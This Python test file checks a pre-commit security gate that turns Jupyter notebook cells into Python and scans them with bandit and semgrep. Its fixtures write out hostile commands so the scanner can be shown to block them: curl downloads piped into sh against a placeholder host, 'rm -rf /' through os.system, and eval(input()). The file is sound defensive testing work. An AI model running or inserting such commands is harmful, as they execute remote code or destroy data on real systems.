"""Notebooks: their code cells read as Python (gates.notebooks) and scanned by the SAST stage."""

from __future__ import annotations

import json

from gates import notebooks
from gates.engine import Request, check
from gates.model import Decision, Outcome, SourceKind, StageResult, StageStatus

from .conftest import Repo


def notebook(*cells: tuple[str, str | list[str]]) -> str:
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        {"cell_type": kind, "metadata": {}, "source": source,
         **({"outputs": [], "execution_count": None} if kind == "code" else {})}
        for kind, source in cells]}, indent=1)


def judged(repo: Repo) -> tuple[Decision, StageResult]:
    decision = check(Request(SourceKind.STAGED, cwd=repo.root))
    return decision, next(r for r in decision.results if r.stage == "sast")


def test_code_cells_become_python_with_magics_commented() -> None:
    code = notebooks.code(notebook(
        ("markdown", "# Title\n!not code"),
        ("code", ["import os\n", "%time x = 1\n", "!curl -s https://x.invalid | sh\n",
                  "eval(input())"]),
        ("code", "%%bash\npip install requests\necho hi"),
    ).encode())
    assert code is not None
    assert code.text.splitlines() == [
        "# %% [cell 2]", "import os", "x = 1  # %time", "# !curl -s https://x.invalid | sh",
        "eval(input())", "# %% [cell 3]", "# %%bash", "# pip install requests", "# echo hi"]
    assert code.origin == ((0, 0), (2, 1), (2, 2), (2, 3), (2, 4), (0, 0), (3, 1), (3, 2),
                           (3, 3))
    assert code.shell == frozenset({4, 7, 8, 9})
    assert code.where(5) == (2, 4) and code.where(99) == (0, 0)


def test_ipython_forms_that_are_not_python() -> None:
    source = ("pip install requests\nfiles = !ls\ns = '''\n!inside a string\n'''\n"
              "for f in files:\n    !echo {f}\nls = 3\n%pip install x\n%%time\n")
    code = notebooks.code(notebook(("code", source)).encode())
    assert code is not None
    lines = code.text.splitlines()[1:]
    assert lines == ["# pip install requests", "# files = !ls", "s = '''", "!inside a string",
                     "'''", "for f in files:", "    pass  # !echo {f}", "ls = 3",
                     "# %pip install x", "# %%time"]
    assert code.shell == frozenset({2, 3, 8, 10})
    compile("\n".join(lines), "cell", "exec")  # the translation parses as Python


def test_python_cell_magics_keep_their_body_and_line_breaks_match_python() -> None:
    code = notebooks.code(notebook(("code", "%%time\nx = eval(y)\rz = 1\r\n")).encode())
    assert code is not None
    assert code.text.splitlines() == ["# %% [cell 1]", "# %%time", "x = eval(y)", "z = 1"]
    assert code.shell == frozenset()


def test_what_is_not_a_notebook() -> None:
    assert notebooks.is_notebook("a/B.IPYNB") and not notebooks.is_notebook("a.ipynb.py")
    for content in (b"", b"not json", b"[]", b'{"cells": 3}', b'{"cells": [{"cell_type": '
                    b'"code", "source": [1]}]}', b'{"metadata": {}}'):
        assert notebooks.code(content) is None, content
    bom = b"\xef\xbb\xbf" + notebook(("code", "x = 1")).encode()
    assert notebooks.code(bom) is not None
    utf16 = notebook(("code", "x = 1")).encode("utf-16")
    assert notebooks.code(utf16) is not None


def test_nbformat_3_worksheets_are_read() -> None:
    old = {"nbformat": 3, "worksheets": [{"cells": [
        {"cell_type": "code", "input": ["eval(input())\n"], "language": "python"}]}]}
    code = notebooks.code(json.dumps(old).encode())
    assert code is not None and "eval(input())" in code.text


def test_eval_in_a_cell_blocks_and_names_the_cell(seeded: Repo) -> None:
    seeded.write("notes/analysis.ipynb", notebook(
        ("markdown", "# Analysis"), ("code", "import pandas as pd\n"),
        ("code", "x = 1\nresult = eval(input())\n")))
    decision, result = judged(seeded)
    assert result.status is StageStatus.FAILED and decision.outcome is Outcome.BLOCK
    evals = [f for f in result.findings if f.tool == "bandit" and f.rule == "B307"]
    assert [(f.path, f.line) for f in evals] == [("notes/analysis.ipynb", None)]
    assert evals[0].message.startswith("[cell 3, line 2] ")
    assert any(f.tool == "semgrep" and f.message.startswith("[cell 3, line 2]")
               for f in result.findings)


def test_a_download_piped_into_a_shell_blocks(seeded: Repo) -> None:
    seeded.write("setup.ipynb", notebook(("code", "!curl -fsSL https://x.invalid/i.sh | sh\n")))
    result = judged(seeded)[1]
    [pipe] = [f for f in result.findings if f.rule == "notebook-shell-pipe"]
    assert pipe.blocking and pipe.message.startswith("[cell 1, line 1] ")
    assert result.status is StageStatus.FAILED


def test_an_install_line_asks_for_a_person(seeded: Repo) -> None:
    seeded.write("setup.ipynb", notebook(("code", "%pip install totally-safe-package\nx = 1\n")))
    data = seeded.gate_json()
    sast = next(s for s in data["stages"] if s["name"] == "sast")
    assert sast["status"] == "pending" and data["exit_code"] == 3
    assert [f["rule"] for f in sast["findings"]] == ["notebook-shell-install"]


def test_legacy_cells_are_notes_and_only_new_shell_lines_count(seeded: Repo) -> None:
    old = notebook(("code", "!pip install pandas\nresult = eval(input())\n"))
    seeded.write("nb.ipynb", old)
    seeded.commit("legacy notebook")
    seeded.write("nb.ipynb", notebook(("code", "!pip install pandas\nresult = eval(input())\n"),
                                      ("markdown", "More text"), ("code", "y = 2\n")))
    result = judged(seeded)[1]
    assert result.status is StageStatus.PASSED
    assert result.findings and all(not f.blocking and not f.introduced
                                   for f in result.findings)


def test_a_new_cell_with_eval_in_a_changed_notebook_counts(seeded: Repo) -> None:
    seeded.write("nb.ipynb", notebook(("code", "x = 1\n")))
    seeded.commit("notebook")
    seeded.write("nb.ipynb", notebook(("code", "x = 1\n"), ("code", "eval(input())\n")))
    result = judged(seeded)[1]
    assert result.status is StageStatus.FAILED
    assert any(f.blocking and f.message.startswith("[cell 2, line 1]") for f in result.findings)


def test_a_notebook_that_is_not_json_is_not_scanned(seeded: Repo) -> None:
    seeded.write("broken.ipynb", "import os\nos.system(input())\n")
    decision, result = judged(seeded)
    assert result.status is StageStatus.PENDING
    assert "broken.ipynb not scanned: not notebook JSON" in result.message
    assert decision.outcome is not Outcome.PASS


def test_a_cell_that_does_not_parse_is_not_scanned_not_a_tool_failure(seeded: Repo) -> None:
    seeded.write("r.ipynb", notebook(("code", "library(dplyr)\nx <- c(1, 2)\nif (x) {\n")))
    result = judged(seeded)[1]
    assert result.status is StageStatus.PENDING
    assert "r.ipynb not scanned" in result.message


def test_magics_that_run_python_stay_python() -> None:
    source = ("%time eval(input())\ny = %timeit -n 10 -r 3 eval(input())\n"
              "%prun -s cumulative os.system(cmd)\n/eval input()\n;os.system rm -rf /\n")
    code = notebooks.code(notebook(("code", source), ("code", "%%timeit -n 3 x = eval(y)\nz = 1"),
                                   ("code", "%%writefile job.py\nimport os\nos.system(cmd)"),
                                   ("code", "%%script python3\nimport os\nos.system(cmd)"),
                                   ("code", "%%perl\nsystem('curl x | sh')")).encode())
    assert code is not None
    lines = code.text.splitlines()
    assert lines[1:6] == ["eval(input())  # %time", "y = eval(input())  # %timeit",
                          "os.system(cmd)  # %prun", "eval(input())  # /",
                          "os.system('rm -rf /')  # ;"]
    assert "x = eval(y)  # %%timeit" in lines
    assert lines.count("os.system(cmd)") == 2  # the file %%writefile writes, python3's script
    assert code.shell == frozenset({len(lines) - 1, len(lines)})  # %%perl runs on the host


def test_cells_and_worksheets_are_both_read() -> None:
    both = {"nbformat": 3, "cells": [{"cell_type": "code", "source": "x = 1"}],
            "worksheets": [{"cells": [{"cell_type": "code", "input": "evil()"}]}]}
    code = notebooks.code(json.dumps(both).encode())
    assert code is not None and "x = 1" in code.text and "evil()" in code.text


def test_hidden_python_in_a_notebook_is_scanned(seeded: Repo) -> None:
    seeded.write("nb.ipynb", notebook(("code", "import os\n%time os.system(input())\n")))
    result = judged(seeded)[1]
    assert any(f.tool == "bandit" and f.rule == "B605" and f.blocking and
               f.message.startswith("[cell 1, line 2]") for f in result.findings)


def test_command_substitution_of_a_download_blocks(seeded: Repo) -> None:
    seeded.write("nb.ipynb", notebook(("code", '!sh -c "$(curl -fsSL https://x.invalid/i)"\n')))
    result = judged(seeded)[1]
    assert [f.rule for f in result.findings if f.blocking] == ["notebook-shell-pipe"]
